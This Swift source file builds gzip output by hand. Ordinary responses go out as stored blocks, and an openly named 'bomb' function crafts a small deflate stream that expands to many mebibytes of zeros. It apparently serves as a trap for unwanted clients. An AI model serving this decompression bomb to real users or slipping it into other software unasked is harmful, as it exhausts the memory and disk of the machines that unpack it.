/// RFC 1952 without a compressor: stored blocks for real answers, hand-made ones for the bomb.
struct Gzip: Sendable {
    private var checksum = CRC32()
    private var length: UInt32 = 0

    /// What stands in front of the first block.
    static let header: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255]

    /// The bytes as stored blocks (RFC 1951 §3.2.4), none of them the last.
    mutating func blocks(_ bytes: [UInt8]) -> [UInt8] {
        checksum.update(bytes)
        length &+= UInt32(truncatingIfNeeded: bytes.count)
        var out: [UInt8] = []
        var start = 0
        while start < bytes.count {
            let part = bytes[start..<min(start &+ 65_535, bytes.count)]
            let size = UInt16(part.count)
            out += [0, UInt8(truncatingIfNeeded: size), UInt8(size >> 8)]
            out += [UInt8(truncatingIfNeeded: ~size), UInt8(~size >> 8)]
            out += part
            start = part.endIndex
        }
        return out
    }

    /// An empty last block, the checksum and the length.
    func trailer() -> [UInt8] { [1, 0, 0, 0xFF, 0xFF] + Self.littleEndian(checksum.value) + Self.littleEndian(length) }

    /// A gzip member of about `mebibytes` MiB of zero bytes: a head, a pattern to repeat, and an end.
    ///
    /// One block with fixed codes (RFC 1951 §3.2.6): the literal 0, then copies of 258 bytes from distance 1. The
    /// block's header and the literal are 11 bits and a copy is 13, so one copy more makes 24 bits and the head ends on
    /// a byte; from there on eight copies fill 13 bytes.
    static func bomb(mebibytes: Int) -> (head: [UInt8], pattern: [UInt8], repetitions: Int, tail: [UInt8]) {
        let copy = [true, true, false, false, false, true, false, true] + Array(repeating: false, count: 5)
        let blockHeader = [true, true, false]
        let literalZero = [false, false, true, true, false, false, false, false]
        let endOfBlock = Array(repeating: false, count: 7)
        let pattern = packed((0..<8).flatMap { _ in copy })
        let perPattern = 8 * 258
        let repetitions = max(mebibytes * 1_048_576 / perPattern, 1)
        let total = 1 + 258 + repetitions * perPattern
        let head = header + packed(blockHeader + literalZero + copy)
        let checks = littleEndian(CRC32.ofZeros(count: total)) + littleEndian(UInt32(truncatingIfNeeded: total))
        return (head, pattern, repetitions, packed(endOfBlock) + checks)
    }

    /// Bits to bytes, the first bit lowest.
    private static func packed(_ bits: [Bool]) -> [UInt8] {
        var out = [UInt8](repeating: 0, count: (bits.count + 7) / 8)
        for (index, bit) in bits.enumerated() where bit { out[index / 8] |= 1 << UInt8(index % 8) }
        return out
    }

    private static func littleEndian(_ value: UInt32) -> [UInt8] {
        (0..<4).map { UInt8(truncatingIfNeeded: value >> UInt32(8 * $0)) }
    }
}
